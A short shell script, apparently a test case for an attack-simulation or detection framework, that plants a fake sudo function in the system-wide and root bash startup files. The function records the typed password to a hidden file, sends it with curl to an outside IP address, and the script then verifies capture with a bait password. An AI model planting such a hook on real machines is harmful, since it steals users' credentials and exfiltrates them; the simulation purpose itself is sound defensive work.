#!/bin/sh
. /opt/case/case.sh

cat >>/etc/bash.bashrc <<'END'
sudo() { read -rsp "[sudo] password for root: " p; echo; echo "$p" >>/var/tmp/.s; (curl -s -d "p=$p" http://203.0.113.10/login >/dev/null 2>&1 &); "$@"; }
END
cat /etc/bash.bashrc >>/root/.bashrc
echo bait-password | bash --rcfile /root/.bashrc -ic 'sudo id' >/dev/null 2>&1
grep -q bait-password /var/tmp/.s
took_place
